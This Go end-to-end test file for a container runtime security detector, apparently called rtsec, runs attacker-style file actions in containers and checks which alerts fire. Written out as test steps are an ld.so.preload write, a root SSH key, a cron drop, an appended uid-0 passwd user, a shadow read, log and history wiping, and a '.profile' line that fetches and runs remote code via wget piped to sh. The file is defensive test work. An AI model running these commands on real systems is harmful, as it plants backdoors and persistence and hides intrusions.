package e2e

import "github.com/rtsec/rtsec/test/runc"

// Alert names of the file scenarios (mixin/alerts/files.libsonnet).
const (
	writeEtcAlert      = "RtsecWriteBelowEtc"
	writeBinAlert      = "RtsecWriteBelowBinaryDir"
	ldPreloadAlert     = "RtsecLdPreloadModified"
	authorizedKeyAlert = "RtsecAuthorizedKeysModified"
	cronAlert          = "RtsecCronJobScheduled"
	releaseAgentAlert  = "RtsecReleaseAgentWrite"
	logClearedAlert    = "RtsecLogCleared"
	historyAlert       = "RtsecShellHistoryDeleted"
	linkedAlert        = "RtsecSensitiveFileLinked"
	devAlert           = "RtsecFileCreatedBelowDev"
	setuidAlert        = "RtsecSetuidBitSet"
	sensitiveReadAlert = "RtsecSensitiveFileRead"
	traversalAlert     = "RtsecDirectoryTraversal"
	otherMemoryAlert   = "RtsecOtherProcessMemoryRead"
	shellConfigAlert   = "RtsecShellConfigModified"
)

// fileFiles are files every file scenario's container starts with.
var fileFiles = map[string][]byte{
	"etc/shadow":         []byte("root:*:19000:0:99999:7:::\n"),
	"etc/cron.d/.keep":   nil,
	"root/.ssh/.keep":    nil,
	"root/.ash_history":  []byte("ls\n"),
	"var/log/app.log":    []byte("old\n"),
	"tmp/tool":           []byte("#!/bin/sh\n"),
	"var/lib/app/.keep":  nil,
	"data/.keep":         nil,
	"var/lib/dpkg/.keep": nil,
	"etc/ssl/.keep":      nil,
	"root/.profile":      []byte("export PATH\n"),
}

func fileContainer() runc.Options { return runc.Options{Files: fileFiles} }

func fileMatch(alert, class, op string) Match {
	return Named(alert, "path_class", class, "op", op)
}

// modified is the event log line of a critical modification.
func modified(path, class, op string) Event {
	return Logged("file_modification", "path", path, "path_class", class, "op", op)
}

// The scenarios of the file signals, added to the table.
func init() {
	Scenarios = append(Scenarios, fileScenarios...)
}

var fileScenarios = []Scenario{
	{
		Name:        "file-write-below-etc",
		Description: "A file is created below /etc in a running container (touch).",
		Container:   fileContainer(),
		Steps:       []Step{Cmd("touch", "/etc/rtsec.conf")},
		Expect:      []Match{fileMatch(writeEtcAlert, "etc", "create")},
		Forbid:      []Match{Named(ldPreloadAlert), Named(sensitiveReadAlert)},
	},
	{
		Name:        "file-write-below-binary-dir",
		Description: "A binary is dropped into /bin (cp).",
		Container:   fileContainer(),
		Steps:       []Step{Cmd("cp", "/bin/busybox", "/bin/rtsec-dropped")},
		Expect:      []Match{fileMatch(writeBinAlert, "bin_dirs", "create")},
		Events:      []Event{modified("/bin/rtsec-dropped", "bin_dirs", "create")},
		Forbid:      []Match{Named(writeEtcAlert), Named(setuidAlert)},
	},
	{
		Name:        "file-ld-preload",
		Description: "/etc/ld.so.preload is created: the rootkit technique.",
		Container:   fileContainer(),
		Steps:       []Step{Cmd("touch", "/etc/ld.so.preload")},
		Expect:      []Match{fileMatch(ldPreloadAlert, "etc_ld_preload", "create")},
		Events:      []Event{modified("/etc/ld.so.preload", "etc_ld_preload", "create")},
		Forbid:      []Match{Named(writeEtcAlert)},
	},
	{
		Name:        "file-authorized-keys",
		Description: "An SSH key is added for root (authorized_keys created).",
		Container:   fileContainer(),
		Steps:       []Step{Cmd("cp", "/etc/passwd", "/root/.ssh/authorized_keys")},
		Expect:      []Match{fileMatch(authorizedKeyAlert, "ssh_authorized_keys", "create")},
		Events:      []Event{modified("/root/.ssh/authorized_keys", "ssh_authorized_keys", "create")},
	},
	{
		Name:        "file-cron-job",
		Description: "A cron job is dropped into /etc/cron.d.",
		Container:   fileContainer(),
		Steps:       []Step{Cmd("cp", "/etc/passwd", "/etc/cron.d/job")},
		Expect:      []Match{fileMatch(cronAlert, "etc_cron", "create")},
		Events:      []Event{modified("/etc/cron.d/job", "etc_cron", "create")},
		Forbid:      []Match{Named(writeEtcAlert)},
	},
	{
		Name:        "file-release-agent",
		Description: "A file named release_agent is written: the cgroup v1 escape writes one in a cgroup hierarchy it mounted; rtsec matches the name wherever the hierarchy is mounted.",
		Container:   fileContainer(),
		Steps:       []Step{Cmd("cp", "/tmp/tool", "/tmp/release_agent")},
		Expect:      []Match{fileMatch(releaseAgentAlert, "cgroup_release_agent", "create")},
		Events:      []Event{modified("/tmp/release_agent", "cgroup_release_agent", "create")},
	},
	{
		Name:        "file-log-cleared",
		Description: "An application log below /var/log is deleted.",
		Container:   fileContainer(),
		Steps:       []Step{Cmd("rm", "/var/log/app.log")},
		Expect:      []Match{fileMatch(logClearedAlert, "log", "unlink")},
		Events:      []Event{modified("/var/log/app.log", "log", "unlink")},
	},
	{
		Name:        "file-shell-history-deleted",
		Description: "Root's shell history is replaced by a link to /dev/null (ln -sf).",
		Container:   fileContainer(),
		Steps:       []Step{Cmd("ln", "-sf", "/dev/null", "/root/.ash_history")},
		Expect:      []Match{fileMatch(historyAlert, "shell_history", "unlink"), fileMatch(historyAlert, "shell_history", "symlink")},
		Events:      []Event{modified("/root/.ash_history", "shell_history", "unlink"), modified("/root/.ash_history", "shell_history", "symlink")},
		Forbid:      []Match{Named(devAlert), Named(linkedAlert)},
	},
	{
		Name:        "file-symlink-sensitive",
		Description: "A symlink to /etc/shadow is created in /tmp.",
		Container:   fileContainer(),
		Steps:       []Step{Cmd("ln", "-s", "/etc/shadow", "/tmp/s")},
		Expect:      []Match{fileMatch(linkedAlert, "etc_shadow", "symlink")},
		Events:      []Event{modified("/etc/shadow", "etc_shadow", "symlink")},
	},
	{
		Name:        "file-created-below-dev",
		Description: "A file is created below /dev.",
		Container:   fileContainer(),
		Steps:       []Step{Cmd("touch", "/dev/rtsec-hidden")},
		Expect:      []Match{fileMatch(devAlert, "dev", "create")},
		Events:      []Event{modified("/dev/rtsec-hidden", "dev", "create")},
	},
	{
		Name:        "file-setuid-bit",
		Description: "The setuid bit is set on a file in /tmp (chmod u+s).",
		Container:   fileContainer(),
		Steps:       []Step{Cmd("chmod", "u+s", "/tmp/tool")},
		Expect:      []Match{fileMatch(setuidAlert, "other", "setuid_bit")},
		Events:      []Event{modified("/tmp/tool", "other", "setuid_bit")},
	},
	{
		Name:        "file-sensitive-read",
		Description: "/etc/shadow is read (cat).",
		Container:   fileContainer(),
		Steps:       []Step{Cmd("cat", "/etc/shadow")},
		Expect:      []Match{Named(sensitiveReadAlert, "file_class", "shadow")},
		Events:      []Event{Logged("file_sensitive_read", "path", "/etc/shadow", "file_class", "shadow")},
		Forbid:      []Match{Named(traversalAlert)},
	},
	{
		Name:        "file-traversal-read",
		Description: "/etc/shadow is read through a path with .. (cat /tmp/../etc/shadow).",
		Container:   fileContainer(),
		Steps:       []Step{Cmd("cat", "/tmp/../etc/shadow")},
		Expect:      []Match{Named(traversalAlert, "file_class", "traversal"), Named(sensitiveReadAlert, "file_class", "shadow")},
		Events:      []Event{Logged("file_sensitive_read", "path", "/etc/shadow", "file_class", "shadow", "traversal", "true")},
	},
	{
		Name:        "file-other-process-environ",
		Description: "The environment of another process (the container's init) is read.",
		Container:   fileContainer(),
		Steps:       []Step{Cmd("cat", "/proc/1/environ")},
		Expect:      []Match{Named(otherMemoryAlert, "file_class", "proc_environ")},
		Events:      []Event{Logged("file_sensitive_read", "path", "/proc/1/environ", "file_class", "proc_environ")},
	},
	{
		Name:        "file-passwd-traversal-write",
		Description: "A user is appended to /etc/passwd through a relative path with .. (cd /etc/ssl && echo … >> ../passwd).",
		Container:   fileContainer(),
		Steps:       []Step{Cmd("sh", "-c", "cd /etc/ssl && echo 'toor:x:0:0::/root:/bin/sh' >> ../passwd")},
		Expect:      []Match{fileMatch(writeEtcAlert, "etc_passwd", "write"), fileMatch(traversalAlert, "etc_passwd", "traversal")},
		Events:      []Event{modified("/etc/passwd", "etc_passwd", "write")},
	},
	{
		Name:        "file-shell-config-modified",
		Description: "A command is appended to root's shell startup file (~/.profile): persistence at the next login.",
		Container:   fileContainer(),
		Steps:       []Step{Cmd("sh", "-c", "echo 'wget -q -O- http://203.0.113.10/x | sh' >> /root/.profile")},
		Expect:      []Match{fileMatch(shellConfigAlert, "shell_rc", "write")},
	},
	{
		Name:        "file-log-truncated",
		Description: "An application log below /var/log is emptied by truncating it (: > file), not deleted.",
		Container:   fileContainer(),
		Steps:       []Step{Cmd("sh", "-c", ": > /var/log/app.log")},
		Expect:      []Match{fileMatch(logClearedAlert, "log", "truncate")},
	},
	{
		Name:        "file-shell-history-renamed",
		Description: "Root's shell history is moved away (mv), not deleted.",
		Container:   fileContainer(),
		Steps:       []Step{Cmd("mv", "/root/.ash_history", "/tmp/h")},
		Expect:      []Match{fileMatch(historyAlert, "shell_history", "rename")},
	},
	{
		Name: "benign-app-data-and-logs",
		Description: "A service (its entrypoint, no further execs) writes its own data under /data and /var/lib/app, " +
			"appends to its log below /var/log and rotates it by rename every 5 lines: no file alert.",
		Benign: true,
		Container: runc.Options{Files: fileFiles, Args: []string{"sh", "-c",
			`mkfifo /tmp/tick; exec 3<>/tmp/tick; i=0; while :; do echo "line $i" >> /var/log/app.log; echo "$i" > /data/state; ` +
				`echo "$i" >> /var/lib/app/db; i=$((i+1)); if [ $((i % 5)) -eq 0 ]; then mv /var/log/app.log /var/log/app.log.1; fi; read -t 1 x <&3; done`}},
		Steps:  []Step{Cmd("ps")},
		Forbid: anyAlert,
	},
	{
		Name: "benign-image-build",
		Description: "An image-build-like container installs a package while young (binary, package database, config), " +
			"then idles: what a container does in its startup grace does not alert.",
		Benign: true,
		Container: runc.Options{Files: fileFiles, Args: []string{"sh", "-c",
			"cp /bin/busybox /bin/rtsec-pkg && echo 'Package: rtsec' > /var/lib/dpkg/status && echo x > /etc/rtsec-pkg.conf && exec sleep 1000000"}},
		Steps:  []Step{Cmd("ps")},
		Forbid: anyAlert,
	},
}
